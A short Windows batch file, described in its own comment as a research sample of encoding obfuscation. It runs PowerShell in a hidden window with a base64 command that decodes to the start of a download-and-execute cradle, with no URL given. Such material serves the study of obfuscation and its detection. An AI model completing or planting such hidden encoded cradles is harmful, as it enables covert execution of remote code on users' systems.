@echo off
REM Sample modelled on the encoding obfuscation of arXiv 2512.04338 applied to a Windows batch
REM file: a base64 PowerShell command (it decodes to the start of a download cradle).
powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA
